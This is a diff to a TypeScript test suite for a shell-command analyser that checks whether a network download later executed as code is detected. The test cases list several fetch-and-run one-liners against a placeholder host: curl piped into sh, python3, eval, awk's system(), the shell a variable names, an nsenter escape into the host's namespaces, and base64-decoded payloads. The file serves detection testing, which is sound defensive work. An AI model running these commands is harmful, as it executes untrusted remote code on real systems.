@@ -100,6 +100,9 @@ describe("a download that is run is followed", () => {
     ["line by line", `curl ${HOST}/x | while read -r l; do eval "$l"; done`],
     ["by another language", `curl ${HOST}/x | python3 -`],
     ["by awk", `awk 'BEGIN { system("curl ${HOST}/x | sh") }'`],
+    ["by the shell that a variable names", `curl ${HOST}/x | "$SHELL"`],
+    ["among the host's processes", `nsenter -t 1 -m -- sh -c "curl ${HOST}/x | sh"`],
+    ["printed before something else", `eval "$(sh -c 'curl ${HOST}/x || true')"`],
     ["decoded on the way", `curl ${HOST}/x | base64 -d | gunzip | sh`],
   ])("%s", (_, text) => {
     const facts = factsOf("shell", text, context);
@@ -112,6 +115,17 @@ describe("a download that is run is followed", () => {
       facts.some((fact) => isFlow(fact, flow)),
       described(facts).join("\n"),
     ).toBe(true);
+  });
+});
+
+describe("what is piped into a program that has its code already is data", () => {
+  test.each([
+    ["a file", `curl ${HOST}/x | sh ./sort.sh`],
+    ["an option", `curl ${HOST}/x | python3 -c "import sys; print(len(sys.stdin.read()))"`],
+  ])("%s", (_, text) => {
+    const facts = factsOf("shell", text, context);
+    const flow = { from: "network.receive" as const, to: "execute.code" as const };
+    expect(facts.some((fact) => isFlow(fact, flow))).toBe(false);
   });
 });
 
